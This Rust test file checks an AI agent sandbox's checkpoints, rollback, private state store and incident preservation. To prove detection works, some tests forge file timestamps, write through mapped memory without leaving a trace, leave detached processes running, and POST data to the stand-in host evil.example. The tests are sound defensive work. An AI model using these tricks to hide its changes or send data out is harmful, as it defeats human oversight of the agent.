//! The guarantees of checkpoints, each a test. Those of databases are in `databases`, those of edits
//! by somebody else in `edits`.

use std::{
    fs,
    os::unix::fs::{MetadataExt, symlink},
};

use air_core::effects::{Change, Reversibility};

use super::*;

fn each_mode(prepare: impl Fn(&Path), test: impl Fn(Bench)) {
    for mode in MODES {
        if let Some(bench) = Bench::open(mode, &prepare) {
            test(bench);
        }
    }
}

fn text(path: &Path) -> String {
    fs::read_to_string(path).unwrap()
}

/// As the agent sees it.
fn seen_text(bench: &Bench, name: &str) -> String {
    bench.bash(&format!("cat {name}")).content
}

#[test]
fn a_change_with_forged_times_is_seen() {
    let fill = |workspace: &Path| write(&workspace.join("f"), "one", 0o644);
    each_mode(fill, |bench| {
        bench.bash("cp -p f kept; printf 1st > f; touch -r kept f");
        // Once with all that was doubtful looked at again, once right after a look.
        for (content, pause) in [("two", 60), ("3rd", 0), ("4th", 0)] {
            bench.checkpoint();
            std::thread::sleep(Duration::from_millis(pause));
            let before = bench.checkpoint();
            bench.python(&format!(
                "import os\ns = os.stat('f')\nopen('f', 'r+').write('{content}')\nos.utime('f', \
                 ns=(s.st_atime_ns, s.st_mtime_ns))"
            ));
            assert_eq!(bench.effect(&before, "f").unwrap().change, Change::Modified);
            let earlier = bench.checkpoint();
            bench.rollback(&before);
            assert_ne!(seen_text(&bench, "f"), content);
            bench.rollback(&earlier);
            assert_eq!(seen_text(&bench, "f"), content);
        }
    });
}

/// Maps `m`, writes to it, and writes to it again when it is told to, with no trace in its times.
const MAPPING: &str = "import mmap, sys
file = open('m', 'r+b')
memory = mmap.mmap(file.fileno(), 0)
memory[0:5] = b'first'
print('ready', flush=True)
for line in sys.stdin:
    memory[0:5] = line.strip().encode()
    print('done', flush=True)
";

#[test]
fn a_write_to_mapped_memory_is_seen_while_it_is_mapped_and_after() {
    let fill = |workspace: &Path| {
        write(&workspace.join("m"), "-".repeat(5000), 0o644);
        write(&workspace.join("map.py"), MAPPING, 0o644);
    };
    let start = "import subprocess, sys
child = subprocess.Popen([sys.executable, 'map.py'], stdin=subprocess.PIPE,
                         stdout=subprocess.PIPE, text=True)
child.stdout.readline()
def tell(text):
    child.stdin.write(text + chr(10)); child.stdin.flush()
    return child.stdout.readline()";
    each_mode(fill, |bench| {
        for unmapped in [false, true] {
            // The kernel writes memory back now and then, and the write after that leaves a trace.
            let tries = (0..5).map(|_| write_to_mapped(&bench, start, unmapped));
            assert!(tries.into_iter().any(|traceless| traceless), "each left a trace");
        }
    });
}

/// Whether the write left no trace in the times of the file. It is seen in any case.
fn write_to_mapped(bench: &Bench, start: &str, unmapped: bool) -> bool {
    bench.python(start);
    bench.checkpoint();
    std::thread::sleep(Duration::from_millis(60));
    let before = bench.checkpoint();
    let times = || {
        let meta = bench.changed("m").metadata().unwrap();
        (meta.ctime(), meta.ctime_nsec(), meta.mtime_nsec())
    };
    let earlier = times();
    bench.python("tell('after')");
    if unmapped {
        bench.python("child.stdin.close(); child.wait()");
    }
    let traceless = times() == earlier;
    let seen = bench.effect(&before, "m").unwrap();
    assert_eq!(seen.change, Change::Modified, "{:?} {unmapped}", bench.mode);
    bench.rollback(&before);
    assert!(text(&bench.changed("m")).starts_with("first"));
    traceless
}

/// Appends lines as fast as it can.
const WRITER: &str = "import itertools
with open('log', 'w', buffering=1) as log:
    for number in itertools.count():
        print(number, file=log)
";

#[test]
fn an_incident_is_frozen_cut_kept_ended_and_restored_in_this_order() {
    let fill = |workspace: &Path| write(&workspace.join("w.py"), WRITER, 0o644);
    each_mode(fill, |bench| {
        let before = bench.checkpoint();
        bench
            .bash("for i in 1 2 3; do sleep 600 & done; python3 w.py > /dev/null 2>&1 & disown -a");
        let log = bench.changed("log");
        until("it writes", || log.metadata().is_ok_and(|meta| meta.len() > 10_000));
        let evidence = block_on(bench.workspace.preserve(&before)).unwrap();
        // Nothing was written after the look.
        let length = text(&log).lines().count();
        let cut = if bench.mode == Mode::Landlock { "can open no socket" } else { "network" };
        let steps = ["stopped ", cut, "; kept what differs", "process", "connection"];
        let mut rest = evidence.summary.as_str();
        for step in steps {
            rest = rest.split_once(step).unwrap_or_else(|| panic!("{step}: {evidence:?}")).1;
        }
        let exhibit = |name: &str| {
            let found = evidence.exhibits.iter().find(|(known, _)| known == name);
            String::from_utf8(found.unwrap_or_else(|| panic!("{name}")).1.clone()).unwrap()
        };
        let processes: Value = serde_json::from_str(&exhibit("processes.json")).unwrap();
        let processes = processes.as_array().unwrap();
        assert_eq!(processes.len(), 4, "{processes:?}");
        assert!(processes.iter().all(|one| "TD".contains(one["state"].as_str().unwrap())));
        let diff = exhibit("changes.diff");
        let last = format!("+{}", length - 1);
        assert!(length > 1000 && diff.lines().any(|line| line == last), "{last}");
        assert!(!diff.lines().any(|line| line == format!("+{length}")));
        std::thread::sleep(Duration::from_millis(50));
        assert_eq!(text(&log).lines().count(), length, "it is stopped until it is ended");
        let ended = block_on(bench.workspace.kill()).unwrap();
        assert!(ended.starts_with("ended "), "{ended}");
        assert!(bench.effects(&before).processes.items.is_empty());
        assert_eq!(bench.rollback(&before), "removed 1 file");
        assert!(!log.exists());
    });
}

#[test]
fn a_rollback_ends_what_would_write_again() {
    let fill = |workspace: &Path| {
        write(&workspace.join("w.py"), WRITER, 0o644);
        write(&workspace.join("log"), "the user's", 0o644);
    };
    each_mode(fill, |bench| {
        let before = bench.checkpoint();
        bench.bash("setsid python3 w.py > /dev/null 2>&1 & disown");
        let log = bench.changed("log");
        until("it writes", || log.metadata().is_ok_and(|meta| meta.len() > 10_000));
        bench.rollback(&before);
        assert_eq!(seen_text(&bench, "log"), "the user's");
        std::thread::sleep(Duration::from_millis(50));
        assert_eq!(seen_text(&bench, "log"), "the user's");
    });
}

#[test]
fn the_projects_own_ignore_list_is_not_asked() {
    let fill = |workspace: &Path| {
        write(&workspace.join(".gitignore"), "*\n!README\n.env\nbuild/\n", 0o644);
        write(&workspace.join(".git/info/exclude"), "*.key\n", 0o644);
        write(&workspace.join(".ignore"), "*\n", 0o644);
        write(&workspace.join(".env"), "A=1\n", 0o600);
        write(&workspace.join("build/out.o"), "object", 0o644);
        write(&workspace.join("node_modules/x/index.js"), "module", 0o644);
        write(&workspace.join("a.key"), "key", 0o600);
    };
    let names = [".env", "build/out.o", "node_modules/x/index.js", "a.key", ".git/info/exclude"];
    each_mode(fill, |bench| {
        let before = bench.checkpoint();
        bench.bash("echo B=2 >> .env; rm -r build node_modules a.key; echo x > .git/info/exclude");
        let saved = ["A=1\n", "object", "module", "key", "*.key\n"];
        for name in names {
            assert!(bench.effect(&before, name).unwrap().reversible, "{name}");
        }
        bench.rollback(&before);
        for (name, content) in names.iter().zip(saved) {
            assert_eq!(seen_text(&bench, name), content);
        }
        assert!(bench.effects(&before).files.items.is_empty());
    });
}

#[test]
fn the_store_is_private_and_outside() {
    let fill = |workspace: &Path| write(&workspace.join(".env"), "A=secret\n", 0o644);
    each_mode(fill, |bench| {
        let before = bench.checkpoint();
        bench.bash("echo B=2 >> .env; echo new > new");
        bench.effects(&before);
        bench.checkpoint();
        block_on(bench.workspace.preserve(&before)).unwrap();
        bench.rollback(&before);
        let state = bench.folder.path().join("state");
        let mut pending = vec![state.clone()];
        let mut looked_at = 0;
        while let Some(path) = pending.pop() {
            let meta = path.symlink_metadata().unwrap();
            // These are the agent's, behind a directory that is not.
            let agents = ["home", "tmp", "upper", "work", "steps", "denied"];
            if agents.iter().any(|name| path == bench.session().join(name)) {
                continue;
            }
            looked_at += 1;
            if meta.is_dir() {
                assert_eq!(meta.mode() & 0o777, 0o700, "{path:?}");
                pending.extend(fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
            }
        }
        assert!(looked_at > 10, "{looked_at}");
        assert!(!state.starts_with(bench.path("")));
        let state = state.display();
        let seen = bench.bash(&format!(
            "ls -d {state}/objects {state}/sessions/s1/timeline 2>/dev/null; ls {state}/objects \
             2>/dev/null; cat {state}/sessions/s1/timeline/head 2>/dev/null; true"
        ));
        let held = fs::read_to_string(bench.session().join("timeline/head")).unwrap();
        assert!(!seen.content.contains(&held), "{seen:?}");
        assert!(!bench.changed(".git").exists() && !bench.path(".air").exists());
        block_on(bench.workspace.publish()).unwrap();
        assert!(!bench.path(".air").exists());
    });
    // Neither may be inside the other.
    let folder = tempfile::tempdir().unwrap();
    fs::create_dir(folder.path().join("ws")).unwrap();
    let mut inside = config(folder.path(), Mode::Direct);
    inside.state = folder.path().join("ws/state");
    inside.session_dir = inside.state.join("sessions/s1");
    assert!(matches!(LocalWorkspace::open(inside), Err(OpenError::Layout(_))));
}

#[test]
fn each_effect_says_whether_it_can_be_undone() {
    let fill = |workspace: &Path| {
        for name in ["changed", "mode", "gone", "moved", "to-link"] {
            write(&workspace.join(name), "content", 0o644);
        }
        write(&workspace.join("large"), "x".repeat(4000), 0o644);
        write(&workspace.join("large-gone"), "x".repeat(4000), 0o644);
        symlink("changed", workspace.join("link")).unwrap();
    };
    each_mode(fill, |bench| {
        let Bench { folder, mode, workspace, tools } = bench;
        drop((workspace, tools));
        let mut config = config(folder.path(), mode);
        config.limits.retained_file_bytes = 1000;
        let workspace = LocalWorkspace::open(config).unwrap();
        let bench = Bench { folder, mode, tools: Tools::new(workspace.clone()), workspace };
        let before = bench.checkpoint();
        bench.bash(
            "echo new > changed; chmod 600 mode; rm gone large-gone; mv moved elsewhere; \
             ln -sf elsewhere link; rm to-link; ln -s changed to-link; mkdir -p made/dir; \
             mkfifo pipe; echo y >> large; echo new > new; sleep 600 & disown",
        );
        let effects = bench.effects(&before);
        let of = |name: &str| {
            let path = bench.inside(name);
            let found = effects.files.items.iter().find(|file| file.path == path);
            found.unwrap_or_else(|| panic!("{name}: {effects:?}")).reversibility()
        };
        let undone = [
            "changed",
            "mode",
            "gone",
            "moved",
            "elsewhere",
            "link",
            "to-link",
            "made",
            "made/dir",
            "pipe",
            "new",
        ];
        for name in undone {
            assert_eq!(of(name), Reversibility::Reversible, "{name}");
        }
        // In a layer the user's own file is what it was.
        let large = if bench.mode == Mode::Layered {
            Reversibility::Reversible
        } else {
            Reversibility::Irreversible
        };
        assert_eq!((of("large"), of("large-gone")), (large, large));
        let said = bench.try_rollback(&before);
        if bench.mode == Mode::Layered {
            said.unwrap();
            assert!(bench.effects(&before).files.items.is_empty());
        } else {
            let why = said.unwrap_err().to_string();
            assert!(why.contains("large: ") && why.contains("large-gone: "), "{why}");
            let left: Vec<_> = bench.effects(&before).files.items;
            assert!(left.iter().all(|file| file.path.contains("large")), "{left:?}");
        }
        assert_eq!(seen_text(&bench, "changed"), "content");
        assert!(bench.effects(&before).processes.items.is_empty());
    });
}

#[test]
fn what_was_sent_cannot_be_undone() {
    for mode in [Mode::Layered, Mode::Direct] {
        let Some(bench) = Bench::open(mode, |_| {}) else { return };
        let before = bench.checkpoint();
        bench.python(
            "import urllib.request\ntry: urllib.request.urlopen('http://evil.example/', data=b'x', \
             timeout=5)\nexcept Exception: pass",
        );
        let effects = bench.effects(&before);
        let sent = effects.connections.items.iter().find(|one| one.port == 80).unwrap();
        assert!(!sent.delivered, "a sandbox passes nothing on");
        let mut delivered = effects.clone();
        for one in &mut delivered.connections.items {
            one.delivered = true;
        }
        assert_eq!(delivered.reversibility(), Reversibility::Irreversible);
    }
}
